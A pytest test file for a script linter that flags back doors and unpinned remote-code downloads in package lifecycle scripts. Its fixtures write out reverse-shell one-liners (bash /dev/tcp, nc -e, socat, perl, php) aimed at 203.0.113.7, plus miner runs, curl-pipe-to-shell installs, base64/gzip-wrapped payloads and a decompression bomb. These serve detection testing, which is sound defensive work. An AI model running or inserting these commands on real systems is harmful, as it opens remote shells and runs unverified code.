"""What a lifecycle script holds, by its layers and by the forms of what is known."""

from __future__ import annotations

import base64
import gzip
import time

import pytest

from wa_lint.facts.scripts import (
    _BACK_DOORS,
    _REMOTE_CODE,
    _first,
    _remote_code,
    _without_comments,
    script_of,
    with_layers,
)


def encoded(script: str) -> str:
    return base64.b64encode(script.encode()).decode()


def packed(script: str) -> str:
    return base64.b64encode(gzip.compress(script.encode(), mtime=0)).decode()


@pytest.mark.parametrize(
    "script",
    [
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "nc 203.0.113.7 4444 -e /bin/sh",
        "ncat --ssl -vc /bin/bash host 443",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f",
        "socat tcp:host:4444 exec:bash,pty,stderr",
        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
        "perl -MIO::Socket -e 'connect(S,sockaddr_in(4444,$i));exec(q(/bin/sh))'",
        "ruby -rsocket -e 'c=TCPSocket.new(h,4444);IO.popen(c.gets)'",
        "php -r '$s=fsockopen(h,4444);exec(q(sh <&3 >&3));'",
        "ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 me@host",
        "pip install pyngrok && python tunnel.py",
        "./xmrig -o pool:3333",
        "wget http://x/m && ./m stratum+tcp://pool:3333",
    ],
)
def test_a_way_in_is_found(script: str) -> None:
    assert _first(_BACK_DOORS, script)


@pytest.mark.parametrize(
    "script",
    [
        "ssh-keygen -R github.com",
        "ssh -i key me@host ls",
        "nc -zv database 5432",
        "curl -s http://169.254.169.254/latest/meta-data/ | python -c 'import json'",
        "bash -c 'echo hello'",
        "socat - UNIX-CONNECT:/var/run/docker.sock",
        "pip install monero-price-history",
        "perl -pe 's/a/b/' file",
        "ruby server.rb",
    ],
)
def test_an_ordinary_command_is_no_way_in(script: str) -> None:
    assert not _first(_BACK_DOORS, script)


@pytest.mark.parametrize(
    "script",
    [
        "curl -fsSL https://x.example/install.sh | sudo -E bash -",
        "wget -qO- https://x.example/i | /bin/sh",
        "curl https://x.example/setup.py | python3",
        'sh -c "$(curl -fsSL https://x.example/install.sh)"',
        "bash <(wget -qO- https://x.example/i)",
        "wget https://raw.githubusercontent.com/a/b/refs/heads/main/setup.sh",
        "pip3 install -U git+https://github.com/a/b.git",
        "pip install --trusted-host pypi.example.com tools",
    ],
)
def test_code_that_nobody_pinned_is_found(script: str) -> None:
    assert _first(_REMOTE_CODE, script)


@pytest.mark.parametrize(
    "script",
    [
        "curl -s http://x/y.json | python -c 'import sys, json; print(json.load(sys.stdin))'",
        "curl -s http://x/y.json | python3 -m json.tool",
        "wget -qO- https://x.example/a.tar.gz | tar xz",
        "curl -fsSL https://x.example/gpg | sudo tee /etc/apt/keyrings/x.asc",
        "pip install git+https://github.com/a/b.git@0123456789abcdef0123456789abcdef01234567",
        "wget https://raw.githubusercontent.com/a/b/main/data.csv",
        "pip install --index-url https://pypi.example.com/simple tools",
    ],
)
def test_data_and_pinned_code_pass(script: str) -> None:
    assert not _first(_REMOTE_CODE, script)


URL = "https://example.com/get"


@pytest.mark.parametrize(
    ("script", "is_found"),
    [
        (f"curl -sLo /tmp/i.sh {URL}\nsudo bash /tmp/i.sh -y", True),
        (f"wget {URL}/a.py\nnohup python3 a.py &", True),
        (f'curl {URL} -o "$HOME/i"\nchmod +x "$HOME/i"\n"$HOME/i"', True),
        (f"curl -O {URL}/env.sh && . ./env.sh", True),
        (f"wget {URL}/i-2.4.1.sh\nbash i-2.4.1.sh", False),
        (f"wget {URL}/4f2c9ab/i.sh\nbash i.sh", False),
        (f"wget {URL}/i.sh\necho '5f2a  i.sh' | sha256sum -c\nbash i.sh", False),
        (f"wget {URL}/data.csv\npython train.py data.csv", False),
        (f"wget {URL}/a.zip\nunzip a.zip", False),
        (f"# curl {URL} | bash", False),
        (f"curl {URL} \\\n  | sudo -u ec2-user -i bash", True),
    ],
)
def test_a_download_that_is_run_is_found_unless_it_is_pinned_or_checked(script: str, is_found: bool) -> None:
    assert bool(_remote_code(_without_comments(script))) == is_found


@pytest.mark.parametrize("wrap", [encoded, packed, lambda s: encoded(f"echo {packed(s)} | base64 -d | gunzip | sh")])
def test_every_layer_is_read(wrap: object) -> None:
    assert callable(wrap)
    script = script_of(wrap("#!/bin/bash\nexport A=1; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"))
    assert script is not None
    assert _first(_BACK_DOORS, with_layers(script))


def test_a_bomb_is_read_within_limits() -> None:
    bomb = packed("A" * 50_000_000)
    begun = time.process_time()
    script = script_of(bomb)
    assert script is not None
    assert len(script) <= 1_000_000
    _first(_BACK_DOORS, with_layers(script))
    assert time.process_time() - begun < 5


@pytest.mark.parametrize(
    "word", ["curl ", "ssh ", "nc ", "socat ", "mkfifo ", "pip install ", "raw.githubusercontent.com/a/b/main/"]
)
def test_time_is_linear_in_the_script(word: str) -> None:
    begun = time.process_time()
    for patterns in (_BACK_DOORS, _REMOTE_CODE):
        _first(patterns, word * (500_000 // len(word)))
    assert time.process_time() - begun < 10
